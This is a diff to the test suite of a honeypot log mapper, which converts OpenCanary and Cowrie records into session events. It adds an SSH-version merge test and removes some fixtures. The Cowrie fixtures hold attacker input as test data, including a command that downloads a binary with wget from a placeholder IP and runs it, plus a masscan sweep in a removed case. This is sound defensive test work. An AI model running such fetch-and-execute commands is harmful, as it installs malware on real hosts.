@@ -197,19 +197,6 @@ const OC_CASES: ReadonlyArray<OcCase> = [
     tags: [],
   },
   {
-    name: "4001 LOG_SSH_REMOTE_VERSION_SENT",
-    line: ocLine(
-      4001,
-      { LOCALVERSION: "SSH-2.0-OpenSSH_5.1p1 Debian-5", REMOTEVERSION: "SSH-2.0-Go" },
-      { dst_port: 22 },
-    ),
-    type: "ssh.session",
-    service: "ssh",
-    port: 22,
-    attackerInput: { localVersion: "SSH-2.0-OpenSSH_5.1p1 Debian-5", remoteVersion: "SSH-2.0-Go" },
-    tags: [],
-  },
-  {
     name: "4002 LOG_SSH_LOGIN_ATTEMPT",
     line: ocLine(
       4002,
@@ -449,10 +436,28 @@ describe("OpenCanary mapper (D22)", () => {
     for (const [logtype, outcome] of OPENCANARY_LOGTYPES) {
       if (outcome.outcome !== "accepted") continue
       expect(EVENT_TYPES.has(outcome.type)).toBe(true)
-      if ([2000, 3000, 3001, 4000, 4001, 4002, 5000, 5001, 6001, 8001, 9001, 12001, 14001, 17001].includes(logtype)) {
+      if ([2000, 3000, 3001, 4000, 4002, 5000, 5001, 6001, 8001, 9001, 12001, 14001, 17001].includes(logtype)) {
         expect(covered.has(logtype)).toBe(true)
       }
     }
+  })
+
+  test("one SSH connection is one event: 4001 merges its client version into the connection 4000 opened", () => {
+    const open = mapOpenCanary(ocLine(4000, { SESSION: "17" }, { dst_port: 22, src_port: 40022 }))
+    const version = mapOpenCanary(
+      ocLine(
+        4001,
+        { LOCALVERSION: "SSH-2.0-OpenSSH_5.1p1 Debian-5", REMOTEVERSION: "SSH-2.0-Go" },
+        { src_port: 40022 },
+      ),
+    )
+    if (open._tag !== "Mapped" || version._tag !== "Merged") throw new Error(`${open._tag} ${version._tag}`)
+    expect(open.cowrie?.session).toBe(version.merge.session)
+    expect(open.cowrie?.teaches).toEqual({ protocol: "ssh", sourcePort: 40022, port: 22 })
+    expect(version.merge.details).toEqual({ clientVersion: "SSH-2.0-Go" })
+    // Another connection (another source port) is another session.
+    const other = mapOpenCanary(ocLine(4001, { REMOTEVERSION: "SSH-2.0-Go" }, { src_port: 40023 }))
+    expect(other._tag === "Merged" && other.merge.session).not.toBe(version.merge.session)
   })
 
   test("the logtype constants are opencanary/logger.py's", () => {
@@ -701,20 +706,6 @@ const COWRIE_CASES: ReadonlyArray<CowrieCase> = [
     sourcePort: 0,
     attackerInput: { command: "cd /tmp && wget http://198.51.100.23/bins/x86 && chmod +x x86 && ./x86" },
     tags: ["malware-download"],
-  },
-  {
-    name: "cowrie.command.failed",
-    line: cowrieLine(
-      "cowrie.command.failed",
-      { input: "masscan -p22 10.0.0.0/8" },
-      "Command not found: masscan -p22 10.0.0.0/8",
-    ),
-    type: "ssh.command",
-    service: "ssh",
-    port: 22,
-    sourcePort: 0,
-    attackerInput: { command: "masscan -p22 10.0.0.0/8" },
-    tags: [],
   },
   {
     name: "cowrie.session.file_download",
@@ -1118,6 +1109,8 @@ describe("garbage never throws (D22: one bad event does not reject the batch)", 
     fc.assert(
       fc.property(fc.constantFrom(...logtypes), fc.dictionary(fc.string(), fc.jsonValue()), (logtype, logdata) => {
         const result = mapOpenCanary(ocLine(logtype, logdata))
+        // A 4001 line is the client version of a connection: merged into its 4000 line's event (a session).
+        if (logtype === 4001) return result._tag === "Merged"
         return result._tag === "Mapped" && SCALARS_OR_CREDENTIALS(result.event.attackerInput)
       }),
       { numRuns: 300 },
